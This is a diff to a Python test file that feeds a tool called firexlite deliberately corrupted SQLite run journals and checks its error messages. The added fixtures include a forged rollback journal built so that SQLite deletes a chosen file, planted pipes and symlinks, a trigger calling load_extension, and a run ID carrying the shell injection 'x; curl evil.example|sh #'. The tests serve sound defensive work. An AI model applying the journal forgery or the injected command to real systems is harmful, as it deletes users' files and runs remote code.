@@ -6,6 +6,7 @@ import hashlib
 import os
 import shutil
 import sqlite3
+import struct
 import subprocess
 import sys
 from collections.abc import Callable
@@ -104,6 +105,40 @@ def _with_column(column: str) -> Callable[[RunDirectory], None]:
     return _altered(f"ALTER TABLE task ADD COLUMN {column}")
 
 
+def leave_rollback_journal(run: RunDirectory, victim: Path) -> None:
+    """Lay a rollback journal beside a journal. Once SQLite has rolled it back it removes the file ``victim``: that is
+    named as its super-journal, which joins transactions in several files."""
+    magic, name = bytes.fromhex("d9d505f920a163d7"), os.fsencode(victim)
+    pages = os.path.getsize(run.journal) // 4096
+    header = (magic + struct.pack(">IIIII", 0, 0, pages, 512, 4096)).ljust(512, b"\0")
+    trailer = struct.pack(">I", 0x40000000 // 4096 + 1) + name + struct.pack(">II", len(name), sum(name) & 0xffffffff) + magic
+    Path(f"{run.journal}-journal").write_bytes(header + trailer)
+
+
+def _with_rollback_journal(run: RunDirectory) -> None:
+    victim = run.path.parent / "precious.txt"
+    victim.write_text("a file of who looks")
+    leave_rollback_journal(run, victim)
+
+
+def _with_pipe(part: str) -> Callable[[RunDirectory], None]:
+    def spoil(run: RunDirectory) -> None:
+        path = Path(f"{run.journal}{part}")
+        path.unlink(missing_ok=True)
+        os.mkfifo(path)
+
+    return spoil
+
+
+def _with_link(part: str) -> Callable[[RunDirectory], None]:
+    def spoil(run: RunDirectory) -> None:
+        (run.path.parent / "precious.txt").write_text("a file of who looks")
+        Path(f"{run.journal}{part}").symlink_to(run.path.parent / "precious.txt")
+
+    return spoil
+
+
+NOT_REGULAR = "{journal}%s is no regular file, as it is in a run that firexlite made"
 DAMAGED = "{journal} is damaged [(].*[)]; a copy of the run's directory from before can take its place"
 
 # name -> (what spoils a sound run, what every command says of it: a pattern); {journal} is the path of the file
@@ -120,8 +155,20 @@ UNUSABLE: dict[str, tuple[Callable[[RunDirectory], object], str]] = {
     "of another application": (_foreign, "{journal} is no journal of firexlite but an SQLite file of application 0x7"),
     "of a newer firexlite": (_altered("PRAGMA user_version = 9"),
                              "{journal} has schema 9, and this firexlite reads up to 2; use a newer firexlite"),
-    "a directory": (_a_folder, "{journal} is (a directory, where a journal should be"
-                               "|no (regular )?file, as it is in a run that firexlite made)"),
+    "a directory": (_a_folder, "{journal} (is a directory, where a journal should be"
+                               "|should be a file, as in every run that firexlite made, and is none)"),
+    "with a rollback journal": (
+        _with_rollback_journal, "{journal}-journal lies beside the journal, and firexlite never leaves such a file: to undo "
+                                "what it tells of could remove any file of yours; do not trust this run"),
+    "a pipe": (_with_pipe(""), "{journal} (is no regular file, as it is in a run that firexlite made"
+                               "|should be a file, as in every run that firexlite made, and is none)"),
+    "with a pipe for a rollback journal": (_with_pipe("-journal"), NOT_REGULAR % "-journal"),
+    "with a pipe for its log": (_with_pipe("-wal"), NOT_REGULAR % "-wal"),
+    "with a link for its log": (_with_link("-wal"), NOT_REGULAR % "-wal"),
+    "with a link for the index of its log": (_with_link("-shm"), NOT_REGULAR % "-shm"),
+    "with a name that a shell obeys": (
+        _altered("UPDATE run SET firex_id = 'x; curl evil.example|sh #'"),
+        "{journal} names its run 'x; curl evil.example[|]sh #', which is not a FireX ID"),
     "with a trigger": (_altered("CREATE TRIGGER mine AFTER UPDATE ON run BEGIN SELECT load_extension('x'); END"),
                        "{journal} is not as firexlite makes it: it has the trigger 'mine', which is none of ours"),
     "with a trigger in the place of ours": (
